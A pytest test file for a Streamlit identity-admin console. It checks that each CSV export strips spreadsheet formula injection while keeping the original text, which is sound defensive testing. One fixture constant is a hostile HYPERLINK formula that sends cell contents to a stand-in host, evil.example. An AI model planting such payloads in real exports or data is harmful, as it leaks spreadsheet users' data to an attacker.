"""Every CSV the app hands out, taken from the download buttons' own data in AppTest, over a directory whose
people, group, operation reason and provisioning logs are spreadsheet formulas: opened with Python's csv (and
split the way a careless spreadsheet would), no cell starts a formula, and the exact text is still there.

Exports covered: Users, a group's members, the audit log and one action's per-person results (Activity), an
operation's preview and its results, the provisioning-log table (Sync history)."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import streamlit.testing.v1.app_test as app_test_module
from streamlit.runtime.media_file_manager import MediaFileManager

from console.csvsafe import restore
from tests.formula_cells import FORMULAS, formula_cells
from tests.pages.conftest import app, assert_clean, make_connection

USER_SCHEMA = "urn:ietf:params:scim:schemas:core:2.0:User"
GROUP_SCHEMA = "urn:ietf:params:scim:schemas:core:2.0:Group"
HOSTILE_GROUP = '=HYPERLINK("http://evil.example/?"&A1,"group")'


@pytest.fixture
def media(monkeypatch: pytest.MonkeyPatch) -> list[MediaFileManager]:
    """The media file managers AppTest creates per run (it drops the runtime after each run)."""
    made: list[MediaFileManager] = []

    class Recording(MediaFileManager):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, **kwargs)
            made.append(self)

    monkeypatch.setattr(app_test_module, "MediaFileManager", Recording)
    return made


def download(at: Any, media: list[MediaFileManager], key: str) -> bytes:
    """The bytes the browser would get from the download button with ``key`` (deferred or not)."""
    buttons = [e.proto for e in at.get("download_button") if e.proto.id.endswith(key)]
    assert buttons, f"no download button {key!r}: {[e.proto.id for e in at.get('download_button')]}"
    proto = buttons[0]
    manager = media[-1]
    url = manager.execute_deferred(proto.deferred_file_id) if proto.deferred_file_id else proto.url
    return bytes(manager._storage.get_file(url.rsplit("/", 1)[-1]).content)


def cells(data: bytes) -> set[str]:
    import csv
    import io

    return {restore(c) for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row}


def assert_safe(data: bytes, *expected: str) -> None:
    assert data.startswith(b"\xef\xbb\xbf")
    assert formula_cells(data) == [], formula_cells(data)[:5]
    missing = [e for e in expected if e not in cells(data)]
    assert not missing, f"exact text lost: {missing}"


@pytest.fixture
def hostile(console_home: Any, sandbox_factory: Any) -> Iterator[Any]:
    """A sandbox with people whose names are formulas, all in a group whose name is one too; a snapshot."""
    sb = sandbox_factory(seed_users=6, seed_groups=1, seed=5)
    ids = []
    with sb.client() as c:
        for i, formula in enumerate(FORMULAS):
            body = {"schemas": [USER_SCHEMA], "userName": f"hostile{i}@corp.example", "active": True,
                    "name": {"givenName": formula, "familyName": FORMULAS[(i + 1) % len(FORMULAS)]},
                    "displayName": formula, "externalId": FORMULAS[(i + 2) % len(FORMULAS)],
                    "emails": [{"value": f"hostile{i}@corp.example", "type": "work", "primary": True}]}
            r = c.post("/Users", json=body)
            assert r.status_code == 201, r.text
            ids.append(r.json()["id"])
        r = c.post("/Groups", json={"schemas": [GROUP_SCHEMA], "displayName": HOSTILE_GROUP, "externalId": "g-ext-1",
                                    "members": [{"value": i} for i in ids]})
        assert r.status_code == 201, r.text
        group_id = r.json()["id"]
    live = make_connection(console_home, sb, "Tenant", entra=False)
    live.user_ids, live.group_id = ids, group_id
    yield live


def test_users_export(hostile: Any, media: list[MediaFileManager]) -> None:
    at = app("pages/users.py")
    assert_clean(at)
    data = download(at, media, "users.csv")
    assert_safe(data, *FORMULAS)
    assert b"hostile0@corp.example" in data


def test_group_members_export(hostile: Any, media: list[MediaFileManager]) -> None:
    at = app("pages/groups.py", state={"groups.detail_id": hostile.group_id})
    assert_clean(at)
    data = download(at, media, f"groups.members_csv.{hostile.group_id}")
    assert_safe(data, *FORMULAS)
    assert data.count(b"@corp.example") >= len(FORMULAS)


def test_audit_log_and_action_results_exports(hostile: Any, media: list[MediaFileManager]) -> None:
    from console.operations import execute, plan

    reason = FORMULAS[0]
    operator = FORMULAS[2]
    p = plan(hostile.ctx, hostile.conn, "deactivate", [f"hostile{i}@corp.example" for i in range(3)])
    result = execute(hostile.ctx, hostile.conn, p, reason, operator)
    at = app("pages/activity.py")
    assert_clean(at)
    assert_safe(download(at, media, "activity.csv"), reason, operator)
    at.session_state["activity.table"] = {"selection": {"rows": [0], "columns": [], "cells": []}}
    at.run()
    assert_clean(at)
    items = download(at, media, f"activity.items_csv.{result.batch_id}")
    assert_safe(items, "hostile0@corp.example")


def test_operation_preview_and_results_exports(hostile: Any, media: list[MediaFileManager]) -> None:
    at = app("pages/users.py")
    table = at.dataframe[0].value
    hostile_rows = [i for i, u in enumerate(table["userName"]) if str(u).startswith("hostile")][:3]
    assert hostile_rows
    key = at.session_state["users.table_key"]
    at.session_state[key] = {"selection": {"rows": hostile_rows, "columns": [], "cells": []}}
    at.run()
    at.selectbox(key="ops.users.kind").set_value("Deactivate").run()
    at.button(key="ops.users.preview").click().run()
    assert_clean(at)
    preview = download(at, media, "ops.users.preview_csv")
    assert_safe(preview)
    assert preview.count(b"hostile") >= len(hostile_rows)
    at.button(key="ops.users.continue").click().run()
    at.text_area(key="ops.users.reason").input(FORMULAS[1]).run()
    at.button(key="ops.users.confirm_go").click().run()
    assert_clean(at)
    results = download(at, media, "ops.users.result_csv")
    assert_safe(results)
    assert results.count(b"hostile") >= len(hostile_rows)


def test_provisioning_logs_export(console_home: Any, media: list[MediaFileManager]) -> None:
    from console.connections import Connection, ConnectionRepo
    from console.entra.logstore import ingest_records
    from tests.pages.conftest import open_ctx

    ctx = open_ctx(console_home)
    conn = ConnectionRepo(ctx).add(Connection(name="Tenant", api_url="https://tenant.example.com/api"))
    now = datetime.now(UTC).replace(microsecond=0)
    records = [{"id": f"rec-{i}", "activityDateTime": (now - timedelta(minutes=i + 1)).isoformat(),
                "cycleId": FORMULAS[i], "changeId": f"chg-{i}", "provisioningAction": "update",
                "provisioningStatusInfo": {"status": "failure",
                                           "errorInformation": {"errorCode": FORMULAS[-1 - i], "reason": "x"}},
                "sourceIdentity": {"id": FORMULAS[(i + 3) % len(FORMULAS)], "displayName": formula,
                                   "identityType": "User"},
                "targetIdentity": {"id": f"t{i}", "displayName": formula, "identityType": "User"}}
               for i, formula in enumerate(FORMULAS)]
    ingest_records(ctx, conn, records)
    at = app("pages/sync_history.py")
    assert_clean(at)
    data = download(at, media, "sync_history.csv")
    assert_safe(data, *FORMULAS)


def test_the_grids_own_verbatim_csv_export_is_off() -> None:
    """st.dataframe's toolbar "Download as CSV" writes cells verbatim (Streamlit's frontend quotes, never
    neutralises); the app config turns it off so tables leave only through the buttons above."""
    import tomllib

    from tests.pages.conftest import REPO

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
